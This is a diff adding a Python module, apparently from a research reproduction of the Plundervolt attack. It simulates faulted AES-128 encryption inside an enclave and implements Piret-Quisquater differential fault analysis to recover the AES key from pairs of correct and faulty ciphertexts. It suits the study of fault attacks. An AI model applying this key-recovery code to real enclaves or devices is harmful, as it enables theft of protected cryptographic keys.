@@ -1,0 +1,304 @@
+"""AES-128 under fault injection, and Piret-Quisquater DFA key recovery.
+
+Plundervolt's second flagship weaponization (besides RSA-CRT): fault an
+AES-NI encryption inside an enclave and recover the key by differential
+fault analysis.  A single-byte fault on the state *entering round 9*
+propagates — through round 9's SubBytes/ShiftRows/MixColumns and round
+10's SubBytes — into exactly four ciphertext bytes whose differences are
+related through known MixColumns coefficients; each correct/faulty
+ciphertext pair therefore narrows four bytes of the last round key, and
+a couple of pairs per column pin the whole key (Piret & Quisquater,
+CHES 2003).  Inverting the key schedule yields the master key.
+
+The enclave-side :class:`FaultableAES` executes each round as a fault
+window (16 byte-operations of ``aesenc`` sensitivity); faults land in
+random rounds, and — exactly like the real attack — only those whose
+ciphertext difference pattern matches a round-9 single-byte fault are
+kept, the rest are discarded.
+"""
+
+from __future__ import annotations
+
+from dataclasses import dataclass, field
+from typing import Dict, List, Optional, Sequence, Set, Tuple
+
+from repro.errors import AttackError, ConfigurationError
+from repro.faults.alu import FaultableALU
+
+# -- AES-128 primitives ------------------------------------------------------
+
+SBOX = bytes.fromhex(
+    "637c777bf26b6fc53001672bfed7ab76ca82c97dfa5947f0add4a2af9ca472c0"
+    "b7fd9326363ff7cc34a5e5f171d8311504c723c31896059a071280e2eb27b275"
+    "09832c1a1b6e5aa0523bd6b329e32f8453d100ed20fcb15b6acbbe394a4c58cf"
+    "d0efaafb434d338545f9027f503c9fa851a3408f929d38f5bcb6da2110fff3d2"
+    "cd0c13ec5f974417c4a77e3d645d197360814fdc222a908846eeb814de5e0bdb"
+    "e0323a0a4906245cc2d3ac629195e479e7c8376d8dd54ea96c56f4ea657aae08"
+    "ba78252e1ca6b4c6e8dd741f4bbd8b8a703eb5664803f60e613557b986c11d9e"
+    "e1f8981169d98e949b1e87e9ce5528df8ca1890dbfe6426841992d0fb054bb16"
+)
+INV_SBOX = bytes(256)
+INV_SBOX = bytearray(256)
+for _i, _v in enumerate(SBOX):
+    INV_SBOX[_v] = _i
+INV_SBOX = bytes(INV_SBOX)
+
+RCON = (0x01, 0x02, 0x04, 0x08, 0x10, 0x20, 0x40, 0x80, 0x1B, 0x36)
+
+#: MixColumns matrix (row-major).
+MC = ((2, 3, 1, 1), (1, 2, 3, 1), (1, 1, 2, 3), (3, 1, 1, 2))
+
+
+def gmul(a: int, b: int) -> int:
+    """GF(2^8) multiplication with the AES polynomial."""
+    result = 0
+    for _ in range(8):
+        if b & 1:
+            result ^= a
+        high = a & 0x80
+        a = (a << 1) & 0xFF
+        if high:
+            a ^= 0x1B
+        b >>= 1
+    return result
+
+
+def expand_key(key: bytes) -> List[bytes]:
+    """AES-128 key schedule: 11 round keys of 16 bytes each."""
+    if len(key) != 16:
+        raise ConfigurationError("AES-128 key must be 16 bytes")
+    words = [list(key[i : i + 4]) for i in range(0, 16, 4)]
+    for i in range(4, 44):
+        word = list(words[i - 1])
+        if i % 4 == 0:
+            word = word[1:] + word[:1]
+            word = [SBOX[b] for b in word]
+            word[0] ^= RCON[i // 4 - 1]
+        words.append([a ^ b for a, b in zip(words[i - 4], word)])
+    return [
+        bytes(b for word in words[4 * r : 4 * r + 4] for b in word) for r in range(11)
+    ]
+
+
+def invert_key_schedule(last_round_key: bytes, rounds: int = 10) -> bytes:
+    """Walk the AES-128 key schedule backwards from round ``rounds``."""
+    if len(last_round_key) != 16:
+        raise ConfigurationError("round key must be 16 bytes")
+    key = list(last_round_key)
+    for r in range(rounds, 0, -1):
+        previous = [0] * 16
+        for i in range(15, 3, -1):
+            previous[i] = key[i] ^ key[i - 4]
+        rotated = previous[13], previous[14], previous[15], previous[12]
+        substituted = [SBOX[b] for b in rotated]
+        substituted[0] ^= RCON[r - 1]
+        for i in range(4):
+            previous[i] = key[i] ^ substituted[i]
+        key = previous
+    return bytes(key)
+
+
+def _sub_bytes(state: List[int]) -> None:
+    for i in range(16):
+        state[i] = SBOX[state[i]]
+
+
+def _shift_rows(state: List[int]) -> None:
+    # Column-major layout: index = row + 4*col; row r shifts left by r.
+    for r in range(1, 4):
+        row = [state[r + 4 * c] for c in range(4)]
+        for c in range(4):
+            state[r + 4 * c] = row[(c + r) % 4]
+
+
+def _mix_columns(state: List[int]) -> None:
+    for c in range(4):
+        col = state[4 * c : 4 * c + 4]
+        for r in range(4):
+            state[r + 4 * c] = (
+                gmul(MC[r][0], col[0])
+                ^ gmul(MC[r][1], col[1])
+                ^ gmul(MC[r][2], col[2])
+                ^ gmul(MC[r][3], col[3])
+            )
+
+
+def _add_round_key(state: List[int], round_key: bytes) -> None:
+    for i in range(16):
+        state[i] ^= round_key[i]
+
+
+def encrypt_block(key: bytes, plaintext: bytes) -> bytes:
+    """Reference AES-128 encryption (no faults)."""
+    round_keys = expand_key(key)
+    return _encrypt_with_schedule(round_keys, plaintext, fault_round=None, fault=None)
+
+
+def _encrypt_with_schedule(
+    round_keys: Sequence[bytes],
+    plaintext: bytes,
+    *,
+    fault_round: Optional[int],
+    fault: Optional[Tuple[int, int]],
+) -> bytes:
+    """Encrypt, optionally xoring ``fault=(index, delta)`` into the state
+    entering ``fault_round`` (1-based)."""
+    if len(plaintext) != 16:
+        raise ConfigurationError("AES block must be 16 bytes")
+    state = list(plaintext)
+    _add_round_key(state, round_keys[0])
+    for round_index in range(1, 10):
+        if fault_round == round_index and fault is not None:
+            state[fault[0]] ^= fault[1]
+        _sub_bytes(state)
+        _shift_rows(state)
+        _mix_columns(state)
+        _add_round_key(state, round_keys[round_index])
+    if fault_round == 10 and fault is not None:
+        state[fault[0]] ^= fault[1]
+    _sub_bytes(state)
+    _shift_rows(state)
+    _add_round_key(state, round_keys[10])
+    return bytes(state)
+
+
+# -- the enclave-side faultable implementation ---------------------------------
+
+
+class FaultableAES:
+    """AES-128 whose rounds execute as fault windows on the live core.
+
+    Each of the 10 rounds is a window of 16 ``aesenc``-sensitivity byte
+    operations; if the injector lands a fault in a round's window, one
+    random state byte entering that round is corrupted (a random non-zero
+    xor).  This matches the single-byte transient upsets Plundervolt
+    observed for AES-NI.
+    """
+
+    def __init__(self, key: bytes) -> None:
+        self._round_keys = expand_key(key)
+
+    def encrypt(self, alu: FaultableALU, plaintext: bytes) -> bytes:
+        """Encrypt one block under the core's current conditions."""
+        injector = alu.injector
+        conditions = alu.conditions_source()
+        fault_round: Optional[int] = None
+        fault: Optional[Tuple[int, int]] = None
+        for round_index in range(1, 11):
+            outcome = injector.run_window(conditions, 16, instruction="aesenc")
+            alu.stats.imul_count += 16
+            if outcome.fault_count and fault_round is None:
+                event = outcome.events[0]
+                delta = 1 + (event.flipped_bit * 37) % 255  # any non-zero byte
+                fault_round = round_index
+                fault = (event.op_index % 16, delta)
+                alu.stats.fault_count += 1
+        return _encrypt_with_schedule(
+            self._round_keys, plaintext, fault_round=fault_round, fault=fault
+        )
+
+
+# -- Piret-Quisquater differential fault analysis --------------------------------
+
+#: For a fault in round-9-input column ``c`` the affected ciphertext byte
+#: indices (after round 9 ShiftRows moves the column and round 10
+#: ShiftRows spreads it).
+def _ciphertext_group(column_after_sr9: int) -> Tuple[int, ...]:
+    return tuple(
+        row + 4 * ((column_after_sr9 - row) % 4) for row in range(4)
+    )
+
+
+CIPHERTEXT_GROUPS: Tuple[Tuple[int, ...], ...] = tuple(
+    _ciphertext_group(c) for c in range(4)
+)
+
+
+def diff_group(correct: bytes, faulty: bytes) -> Optional[int]:
+    """Which ciphertext group differs — or None if the pattern does not
+    match a round-9 single-byte fault (wrong round; discard)."""
+    differing = {i for i in range(16) if correct[i] != faulty[i]}
+    if not differing:
+        return None
+    for group_index, group in enumerate(CIPHERTEXT_GROUPS):
+        if differing == set(group):
+            return group_index
+    return None
+
+
+@dataclass
+class DFAState:
+    """Accumulated key knowledge, per ciphertext group."""
+
+    candidates: Dict[int, List[Set[int]]] = field(default_factory=dict)
+
+    def absorb(self, correct: bytes, faulty: bytes) -> Optional[int]:
+        """Fold one correct/faulty pair in; returns the group hit or None.
+
+        Pairs hitting an already-solved group are recognised but skipped
+        (no information left to extract).
+        """
+        group_index = diff_group(correct, faulty)
+        if group_index is None:
+            return None
+        if group_index in self.solved_groups():
+            return group_index
+        group = CIPHERTEXT_GROUPS[group_index]
+        # Precompute, per output byte, the map from S-box input difference
+        # to the key candidates producing it — turns the (delta, row)
+        # enumeration into O(1) lookups.
+        diff_to_keys: List[Dict[int, Set[int]]] = []
+        for j in range(4):
+            c = correct[group[j]]
+            f = faulty[group[j]]
+            table: Dict[int, Set[int]] = {}
+            for k in range(256):
+                table.setdefault(INV_SBOX[c ^ k] ^ INV_SBOX[f ^ k], set()).add(k)
+            diff_to_keys.append(table)
+        pair_sets: List[Set[int]] = [set(), set(), set(), set()]
+        for delta in range(1, 256):
+            for fault_row in range(4):
+                per_byte = []
+                for j in range(4):
+                    matches = diff_to_keys[j].get(gmul(MC[j][fault_row], delta))
+                    if not matches:
+                        break
+                    per_byte.append(matches)
+                else:
+                    for j in range(4):
+                        pair_sets[j] |= per_byte[j]
+        existing = self.candidates.get(group_index)
+        if existing is None:
+            self.candidates[group_index] = pair_sets
+        else:
+            for j in range(4):
+                existing[j] &= pair_sets[j]
+        return group_index
+
+    def solved_groups(self) -> Set[int]:
+        """Groups whose four key bytes are uniquely determined."""
+        return {
+            g
+            for g, sets in self.candidates.items()
+            if all(len(s) == 1 for s in sets)
+        }
+
+    @property
+    def complete(self) -> bool:
+        """Whether all 16 bytes of the last round key are pinned."""
+        return self.solved_groups() == {0, 1, 2, 3}
+
+    def last_round_key(self) -> bytes:
+        """Assemble K10 once :attr:`complete`."""
+        if not self.complete:
+            raise AttackError("DFA has not converged on all four groups yet")
+        key = [0] * 16
+        for group_index, sets in self.candidates.items():
+            group = CIPHERTEXT_GROUPS[group_index]
+            for j in range(4):
+                key[group[j]] = next(iter(sets[j]))
+        return bytes(key)
+
+    def recover_master_key(self) -> bytes:
+        """Invert the key schedule from the recovered K10."""
+        return invert_key_schedule(self.last_round_key())
